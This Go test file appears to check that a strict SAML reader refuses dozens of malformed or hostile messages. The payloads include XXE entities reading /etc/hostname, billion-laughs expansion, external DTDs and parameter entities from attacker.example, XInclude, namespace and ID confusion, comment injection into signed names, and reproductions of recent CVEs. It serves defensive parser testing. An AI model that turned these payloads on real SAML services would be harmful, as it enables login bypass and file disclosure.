package samlattack

import (
	"strings"

	"github.com/beevik/etree"
)

// documentCases are XML that a strict reader does not accept as a message.
func documentCases() []Case {
	before := func(s string) Bend { return outside("<samlp:Response", s+"<samlp:Response") }
	inner := func(s string) Bend { return inside("<saml:Assertion", s+"<saml:Assertion") }
	whole := func(s string) Bend { return Bend{Message: func(*Draft, []byte) []byte { return []byte(s) }} }
	const laughs = `<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`
	return []Case{
		refuse("V-XML-1/internal", "an internal DOCTYPE that nothing uses", before(`<!DOCTYPE r [<!ENTITY x "y">]>`)),
		refuse("V-XML-1/external", "an external DOCTYPE", before(`<!DOCTYPE r SYSTEM "https://attacker.example/x.dtd">`)),
		refuse("V-XML-1/bare", "a bare DOCTYPE", before(`<!DOCTYPE r>`)),
		refuse("V-ENC-14/doctype", "a DOCTYPE inside what was encrypted", inner(`<!DOCTYPE a>`)),
		refuse("V-XML-2/entity", "an entity that is used", Bend{Message: func(_ *Draft, b []byte) []byte {
			return swap(swap(b, "<samlp:Response", `<!DOCTYPE r [<!ENTITY e "Success">]><samlp:Response`), "status:Success", "status:&e;")
		}}),
		refuse("V-XML-2/xxe", "an external entity", Bend{Message: func(_ *Draft, b []byte) []byte {
			return swap(swap(b, "<samlp:Response", `<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><samlp:Response`), "<samlp:Status>", "<samlp:Status>&e;")
		}}),
		refuse("V-XML-2/laughs", "entities that multiply", Bend{Message: func(_ *Draft, b []byte) []byte {
			return swap(swap(b, "<samlp:Response", laughs+"<samlp:Response"), "<samlp:Status>", "<samlp:Status>&c;")
		}}),
		refuse("V-XML-2/parameter", "a parameter entity", before(`<!DOCTYPE r [<!ENTITY % p SYSTEM "https://attacker.example/p"> %p;]>`)),
		refuse("V-XML-2/undeclared", "an entity that nobody declared", outside("<samlp:Status>", "<samlp:Status>&e;")),
		refuse("D1", "a DOCTYPE whose quotes hide a comment (CVE-2025-25291)", Bend{Message: func(d *Draft, b []byte) []byte {
			return []byte(`<!DOCTYPE response SYSTEM 'x"><!--'>` + string(d.Answer(Bend{Unsigned: true, Plain: true})) + `<!--"><!-->` + string(b) + `<!--]]>-->`)
		}}),
		refuse("D2", "an ATTLIST that gives a namespace by default (CVE-2025-25292)", before(`<!DOCTYPE r [<!ATTLIST Signature xmlns CDATA #FIXED "`+nsDSig+`" xmlns CDATA "block">]>`)),
		refuse("D3", "an ID through an entity (CVE-2025-23369)", Bend{Message: func(_ *Draft, b []byte) []byte {
			return swap(swap(b, "<samlp:Response", `<!DOCTYPE r [<!ENTITY i "_i">]><samlp:Response`), ` ID="`, ` ID="&i;`)
		}}),
		refuse("D6/directive", "a directive with a comment inside", before(`<!x <!-- -->>`)),
		refuse("V-XML-8/pi", "a processing instruction before the root", before(`<?x y?>`)),
		refuse("V-XML-8/comment", "a comment before the root", before(`<!-- x -->`)),
		refuse("V-XML-8/comment-in-status", "a comment inside the Response", outside("<samlp:Status>", "<samlp:Status><!-- x -->")),
		refuse("V-XML-8/pi-in-status", "a processing instruction inside the Response", outside("<samlp:Status>", "<samlp:Status><?x y?>")),
		refuse("V-XML-8/before", "text before the root", before(`x`)),
		refuse("V-XML-8/after", "text after the root", outside("</samlp:Response>", "</samlp:Response>x")),
		refuse("V-XML-8/inside", "text between elements of the Response", outside("<samlp:Status>", "x<samlp:Status>")),
		refuse("V-XML-8/cdata", "an empty CDATA section", outside("<samlp:Status>", "<samlp:Status><![CDATA[]]>")),
		refuse("V-XSW-14/good-first", "two roots, good then empty", outside("</samlp:Response>", "</samlp:Response><x/>")),
		refuse("V-XSW-14/twice", "the whole message twice", Bend{Message: func(_ *Draft, b []byte) []byte { return append(b, b...) }}),
		refuse("V-XML-9", "a byte order mark", before("\ufeff")),
		refuse("V-XML-10/nul", "a NUL byte", outside("<samlp:Status>", "\x00<samlp:Status>")),
		refuse("V-XML-10/utf8", "a byte that is not UTF-8", outside("<samlp:Status>", "\xff<samlp:Status>")),
		refuse("V-XML-10/overlong", "an overlong UTF-8 form of <", outside("<samlp:Status>", "\xc0\xbc<samlp:Status>")),
		refuse("V-XML-10/charref", "a character reference to NUL", outside("<samlp:Status>", "&#0;<samlp:Status>")),
		refuse("V-XML-11/latin1", "declared as ISO-8859-1", before(`<?xml version="1.0" encoding="ISO-8859-1"?>`)),
		refuse("V-XML-11/utf16", "declared as UTF-16", before(`<?xml version="1.0" encoding="UTF-16"?>`)),
		refuse("V-XML-11/utf7", "declared as UTF-7", before(`<?xml version="1.0" encoding="UTF-7"?>`)),
		refuse("V-XML-11/utf16-bytes", "UTF-16 in fact", Bend{Message: func(_ *Draft, b []byte) []byte { return utf16(b) }}),
		refuse("V-XML-11/no-version", "an XML declaration without version", before(`<?xml encoding="UTF-8"?>`)),
		refuse("V-XML-11/version", "XML 1.1", before(`<?xml version="1.1"?>`)),
		refuse("V-XML-12/request", "the root is an AuthnRequest", outside("samlp:Response", "samlp:AuthnRequest")),
		refuse("V-XML-12/renamed", "the root is named Response2, well formed", Bend{Message: func(_ *Draft, b []byte) []byte {
			return []byte(strings.ReplaceAll(string(b), "samlp:Response", "samlp:Response2"))
		}}),
		refuse("V-XML-12/namespace", "Response of another namespace", Bend{Message: func(_ *Draft, b []byte) []byte {
			s := strings.ReplaceAll(string(b), "samlp:Response", "x:Response")
			return []byte(strings.Replace(s, "<x:Response", `<x:Response xmlns:x="urn:x"`, 1))
		}}),
		refuse("V-XML-12/none", "Response of no namespace", whole("<Response/>")),
		refuse("V-XML-12/logout", "a LogoutResponse", whole(`<LogoutResponse xmlns="`+nsProtocol+`"/>`)),
		refuse("V-XML-12/text", "no XML at all", whole("hello")),
		refuse("V-XML-12/cut", "a message cut in half", Bend{Message: func(_ *Draft, b []byte) []byte { return b[:len(b)/2] }}),
		refuse("V-XML-12/unclosed", "a message whose root is not closed", Bend{Message: func(_ *Draft, b []byte) []byte {
			return []byte(strings.TrimSuffix(string(b), "</samlp:Response>"))
		}}),
		refuse("V-XML-12/crossed", "end tags that cross", outside("</samlp:Status>", "</samlp:Statuss>")),
	}
}

// textCases are XML names and text that two readers could read differently.
func textCases() []Case {
	root := func(s string) Bend { return outside("<samlp:Response", "<samlp:Response "+s) }
	name := func(s string) Bend { return inside("/person/uuid/", "/person/"+s+"uuid/") }
	number := func(s string) Bend { return inside(">"+goodCPR+"<", ">"+s+"<") }
	list := []Case{
		refuse("V-SIG-22", "a comment in NameID", name("<!-- -->")),
		refuse("V-SIG-23/pi", "a processing instruction in NameID", name("<?x y?>")),
		refuse("V-SIG-23/cdata", "an empty CDATA section in NameID", name("<![CDATA[]]>")),
		refuse("V-SIG-20/digest", "a comment in DigestValue", inside("<ds:DigestValue>", "<ds:DigestValue><!--x-->")),
		refuse("V-SIG-20/value", "a comment in SignatureValue", inside("<ds:SignatureValue>", "<ds:SignatureValue><!--x-->")),
		refuse("S5", "another digest in a comment in DigestValue", inside("<ds:DigestValue>", "<ds:DigestValue><!--47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=-->")),
		refuse("V-SIG-24/rebound", "the prefix saml bound anew inside NameID", inside("<saml:NameID ", `<saml:NameID xmlns:saml="urn:x" `)),
		refuse("S10", "a processing instruction that hides part of the name, signed without it", name("<?p not-?>")),
		refuse("S11/cpr-comment", "a comment in the CPR number", number("6503<!-- -->851236")),
		refuse("S11/cpr-pi", "a processing instruction in the CPR number", number("6503<?x?>851236")),
		refuse("S11/cpr-cdata", "the CPR number as CDATA", number("<![CDATA["+goodCPR+"]]>")),
		refuse("S11/cpr-charref", "other digits as character references", number("660755119&#50;")),
		refuse("S11/cpr-space", "white space added to the CPR number", number(" "+goodCPR)),
		refuse("S11/cpr-nested", "an element inside the CPR number", number("6503<x/>851236")),
		refuse("D4/foreign-id", "an ID in a namespace beside the real one", root(`samlp:ID="_x"`)),
		refuse("D4/id-twice", "the attribute ID twice", root(`ID="_x"`)),
		refuse("D4/decoy-Id", "a decoy attribute Id", root(`Id="_x"`)),
		refuse("D4/decoy-id", "a decoy attribute id", root(`id="_x"`)),
		refuse("D4/destination", "Destination in a namespace only", outside(" Destination=", " samlp:Destination=")),
		refuse("D4/inresponseto", "InResponseTo in a namespace only", outside(" InResponseTo=", " samlp:InResponseTo=")),
		refuse("D4/pollution", "Destination and InResponseTo once more, in a namespace, for another service", root(`samlp:Destination="https://other.example/acs" samlp:InResponseTo="_other"`)),
		refuse("G13/unbound", "an element whose prefix is not bound", outside("<samlp:Status>", "<samlp:Status><q:x/>")),
		refuse("G13/unbound-attribute", "an attribute whose prefix is not bound", root(`q:x="1"`)),
		refuse("G13/empty-prefix", "an attribute with an empty prefix", root(`:ID="_x"`)),
		refuse("G13/xmlns-attribute", "an attribute x:xmlns", root(`samlp:xmlns="urn:x"`)),
		refuse("D5/empty-element", "an element with an empty prefix", Bend{Message: func(_ *Draft, b []byte) []byte {
			return []byte(strings.ReplaceAll(string(b), "samlp:Response", ":Response"))
		}}),
		refuse("D5/colons", "a name with two colons", outside("<samlp:Status>", "<samlp:Status><a:b:c/>")),
		refuse("D5/attribute-colons", "an attribute with two colons", root(`a:b:c="1"`)),
		refuse("D5/xml", "the prefix xml bound anew", root(`xmlns:xml="urn:x"`)),
		refuse("D5/xml-alias", "another prefix for the xml namespace", root(`xmlns:y="`+nsXML+`"`)),
		refuse("D5/xmlns", "the prefix xmlns bound", root(`xmlns:xmlns="urn:x"`)),
		refuse("D5/unset", "a prefix unbound again", root(`xmlns:y=""`)),
		refuse("D5/twice", "a prefix bound twice on one element", root(`xmlns:y="urn:a" xmlns:y="urn:b"`)),
		refuse("D5/relative", "a relative namespace name", root(`xmlns:v="1"`)),
		refuse("D5/relative-inside", "a relative namespace name inside what was encrypted and signed", edit(func(a *etree.Element) { a.CreateAttr("xmlns:v", "1") })),
		refuse("D6/attributes", "attribute names of colons only", root(`:="v"`)),
		refuse("D6/element", "an element x::y", outside("<samlp:Status>", "<samlp:Status><x::y/>")),
		refuse("D8/xinclude", "an XInclude", outside("<samlp:Status>", `<samlp:Status><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>`)),
		refuse("D8/xinclude-key", "an XInclude where nobody looks", keyInfo(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>`)),
		refuse("D8/base", "xml:base on the Response", root(`xml:base="https://attacker.example/"`)),
		refuse("V-ID-1", "Response and assertion share their ID", Bend{Assertion: func(_ *Draft, a *etree.Element) { a.CreateAttr("ID", "_same") },
			Response: func(_ *Draft, r *etree.Element) { r.CreateAttr("ID", "_same") }}),
		refuse("V-ID-3", "two elements of the Response share an ID", Bend{Response: func(_ *Draft, r *etree.Element) {
			at(r, "./Status").CreateAttr("ID", r.SelectAttrValue("ID", ""))
		}}),
		refuse("V-ID-4", "an empty ID on the Response", around(func(r *etree.Element) { r.CreateAttr("ID", "") })),
		refuse("V-ID-5", "no ID on the Response", around(func(r *etree.Element) { r.RemoveAttr("ID") })),
		refuse("V-ID-6", "an ID of 300 characters on the assertion", edit(func(a *etree.Element) { a.CreateAttr("ID", "_"+strings.Repeat("a", 299)) })),
		refuse("D7/control", "a C0 control character", outside("<samlp:Status>", "\x01<samlp:Status>")),
		refuse("D5/bad-name", "an element named 1", outside("<samlp:Status>", "<samlp:Status><1/>")),
		refuse("D5/unquoted", "an attribute without quotes", root("x=1")),
		refuse("D5/angle", "a < inside an attribute", root(`x="<"`)),
		refuse("V-XML-14/unknown-encoding", "a declaration with an odd parameter", outside("<samlp:Response", `<?xml version="1.0" x="y"?><samlp:Response`)),
	}
	return list
}

// keyInfo puts s where a reader of encrypted data looks for keys.
func keyInfo(s string) Bend { return outside("</ds:KeyInfo>", s+"</ds:KeyInfo>") }

func utf16(b []byte) []byte {
	out := []byte{0xfe, 0xff}
	for _, c := range b {
		out = append(out, 0, c)
	}
	return out
}
